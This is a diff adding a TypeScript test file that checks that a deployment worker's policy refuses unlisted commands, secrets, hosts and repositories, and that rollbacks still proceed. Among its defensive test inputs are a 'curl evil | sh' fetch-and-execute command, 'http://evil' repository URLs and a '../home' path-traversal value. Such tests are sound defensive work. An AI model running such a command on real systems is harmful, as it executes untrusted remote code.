@@ -1,0 +1,114 @@
+/** What the policy of the moment refuses, also where it allowed it when the release was planned. */
+import { beforeAll, describe, expect, test } from 'vitest';
+import type { PolicyStore } from '../../../activities/trust/policy-store.js';
+import type { Colour } from '../../../pipeline/plan.js';
+import type { Target } from '../../../workflows/activity-contract.js';
+import { givenPolicyStore } from '../../support/policies.js';
+import { givenSealedRelease, type Name, type SealedRelease } from '../../support/sealed.js';
+import { inputOf, OF_A_TARGET, useVouchingWorker } from '../../support/vouching-worker.js';
+
+const { keys, begins, refusal } = useVouchingWorker();
+let release: SealedRelease;
+beforeAll(async () => {
+  release = await givenSealedRelease(keys.ours, { policy: { rules: [] } });
+});
+
+const without = ({ seal: _seal, ...rest }: Target['plan']): Target['plan'] => rest;
+
+describe('the policy of the moment', () => {
+  test('runs and resolves nothing that only a stranger names, to look', async () => {
+    const doctor = { what: 'doctor', step: null, host: null, lines: 1, live: null };
+    const look = (change: Partial<Target['plan']>, what = 'doctor') => ({
+      ...doctor,
+      what,
+      plan: {
+        ...without(release.environment),
+        platform: { kind: 'swarm', service: 'shop', fields: {} },
+        traffic: null,
+        ...change,
+      },
+    });
+    const ask = (input: unknown) => refusal('inspectEnvironment', input, policyOf());
+    const commands = { kind: 'command', restore: null, retire: null, on: 'worker' } as const;
+    const platform = { ...commands, command: 'id', inspect: 'curl evil | sh' };
+    expect(await ask(look({ platform }))).toMatch(/command id is not allowed/);
+    expect(await ask(look({ secrets: { A: 'env:PROD_A' } }))).toMatch(/secret env:PROD_A is not allowed/);
+    expect(await ask(look({}, 'logs'))).toMatch(/the plan has no seal/);
+    expect(await ask({ ...doctor, plan: { ...release.environment, platform } })).toMatch(/changed after/);
+    const live = { ...release.target, colour: '../home' as Colour, at: '', by: 'x' };
+    expect(await ask({ ...look({}), live })).toMatch(/no such colour/);
+    expect(await ask({ ...look({}), live: { ...live, version: 'v2' } })).toMatch(/is of v1\.0\.0/);
+    expect(await begins('inspectEnvironment', look({}), policyOf())).toBe(true);
+  });
+
+  test('refuses what was planned before there was one, with its word for who approved', async () => {
+    const before = await givenSealedRelease(keys.ours);
+    const { target, prior } = before;
+    expect(await refusal('deploy', { target, prior }, policyOf())).toMatch(/has become stricter/);
+    expect(await begins('undoDeploy', { target, prior }, policyOf())).toBe(true);
+  });
+
+  const back: Name[] = ['claim', 'undoDeploy', 'takeOver', 'retireColour'];
+  const stricter: [string, string, RegExp][] = [
+    ['more approvals', 'approvals: [{count: 1, by: unverified}]', /policy has become stricter/],
+    ['other hosts', 'hosts: [deploy@web-1]', /host deploy@web-2 is not allowed/],
+    ['other refs', 'from: {branch: main}', /tag v1\.0\.0 is not allowed/],
+    ['a longer wait', 'wait: 1h', /policy has become stricter/],
+  ];
+  describe.each(stricter)('with %s', (_what, line, reason) => {
+    test.each(OF_A_TARGET.filter((name) => !back.includes(name)))('%s refuses', async (name) => {
+      expect(await refusal(name, inputOf(name, release), policyOf(line))).toMatch(reason);
+    });
+
+    test.each(back)('%s still goes back', async (name) => {
+      expect(await begins(name, inputOf(name, release), policyOf(line))).toBe(true);
+    });
+  });
+
+  test('allows what it allowed when it was planned', async () => {
+    expect(await begins('deploy', inputOf('deploy', release), policyOf())).toBe(true);
+  });
+
+  test('keeps looks and fetches to what it names', async () => {
+    const plan = release.environment;
+    const look = { what: 'doctor', plan, step: null, host: null, lines: 1, live: null };
+    expect(await begins('inspectEnvironment', look, policyOf())).toBe(true);
+    expect(await begins('inspectEnvironment', look)).toBe(true);
+    const unsealed = (change: Partial<Target['plan']>, what = 'doctor') => ({
+      ...look,
+      what,
+      plan: { ...without(plan), ...change },
+    });
+    const evil = unsealed({ hosts: [{ name: 'evil', address: 'evil' }] });
+    expect(await refusal('inspectEnvironment', evil, policyOf())).toMatch(/host evil is not allowed/);
+    const strange = unsealed({ name: 'prod2' });
+    expect(await refusal('inspectEnvironment', strange, policyOf())).toMatch(/no such environment/);
+    const asked = { commit: 'a'.repeat(40), candidates: [] };
+    expect(await begins('listAncestors', { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(
+      true,
+    );
+    expect(await refusal('listAncestors', { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
+      /does not allow it/,
+    );
+    for (const name of ['recordDeployment', 'setCommitStatus', 'commentOnPullRequest'] as const) {
+      expect(await begins(name, { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(true);
+      expect(await refusal(name, { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
+        /does not allow it/,
+      );
+    }
+  });
+
+  test('refuses production where the policy was taken away', async () => {
+    const gone: PolicyStore = { read: async () => null, isDemo: false };
+    expect(await refusal('deploy', inputOf('deploy', release), gone)).toMatch(
+      /is production, and this worker has no policy/,
+    );
+  });
+});
+
+/** One that allows the release as it was planned, but for one line. */
+function policyOf(line = ''): PolicyStore {
+  const hosts = line.startsWith('hosts:') ? '' : 'hosts: [deploy@web-1, deploy@web-2], ';
+  const text = `pipelines: {shop: {repositories: [/srv/shop.git], environments: {prod: {${hosts}${line}}}}}`;
+  return givenPolicyStore(text);
+}
